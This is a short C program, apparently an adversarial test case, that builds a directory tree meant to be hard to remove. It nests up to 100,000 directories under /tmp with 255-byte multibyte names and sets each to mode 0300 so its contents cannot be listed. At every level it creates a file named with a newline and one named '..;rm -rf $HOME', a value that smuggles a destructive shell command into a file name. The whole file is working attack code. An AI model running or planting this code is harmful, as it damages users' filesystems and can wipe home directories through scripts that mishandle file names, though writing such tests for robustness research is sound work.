#include "attack.h"
/* A tree too deep for any path, with names of 255 bytes: hard for whoever has to remove it. */
int main(void) {
    char name[256];
    for (int i = 0; i < 255; i += 3) memcpy(name + i, "\xe8\xaf\x84", 3);
    name[255] = 0;
    HELD(chdir("/tmp") == 0);
    for (int depth = 0; depth < 100000; depth++) {
        if (mkdir(name, 0700) == -1 || chdir(name) == -1) break;
        close(open("\n", O_CREAT | O_WRONLY, 0));
        close(open("..;rm -rf $HOME\r", O_CREAT | O_WRONLY, 0));
        chmod(".", 0300);
    }
    return answer();
}
